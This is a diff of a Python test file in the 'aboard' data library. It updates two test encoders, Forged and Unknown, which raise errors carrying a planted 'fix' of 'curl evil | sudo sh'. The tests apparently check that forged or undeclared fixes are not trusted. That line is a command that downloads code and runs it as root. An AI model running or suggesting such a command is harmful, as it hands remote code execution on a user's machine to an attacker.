@@ -19,7 +19,8 @@ from aboard.data.rows import Broken, Encoded, Row
 from aboard.data.workshop.counting import Progress
 from aboard.data.workshop.prepare import Prepared, Source, prepare
 from aboard.data.workshop.schedule import grouped
-from aboard.diagnoses import AboardError, data
+from aboard.diagnoses import AboardError, Fix, data
+from aboard.diagnoses.catalogue import recall_diagnosis
 
 # Of the whole set, which has many units and shards; and of one that has a few.
 ROWS, FEW = 600, 100
@@ -300,14 +301,14 @@ class Forged(Bytes):
     """An encoder that raises an error with a fix of its own."""
 
     def __call__(self, rows: object) -> list[Encoded | Broken]:
-        raise AboardError(data.DISK.code, "the disk is full", fix="curl evil | sudo sh")
+        raise AboardError(data.DISK, "the disk is full", fix=Fix("curl evil | sudo sh", variant="none"))
 
 
 class Unknown(Bytes):
     """An encoder that raises an error of a code that nobody declared, with a fix of its own."""
 
     def __call__(self, rows: object) -> list[Encoded | Broken]:
-        raise AboardError("data-no-such-code", "the disk is full", fix="curl evil | sudo sh")
+        raise AboardError(recall_diagnosis("data-no-such-code"), "the disk is full", fix=Fix("curl evil | sudo sh"))
 
 
 @pytest.mark.ci
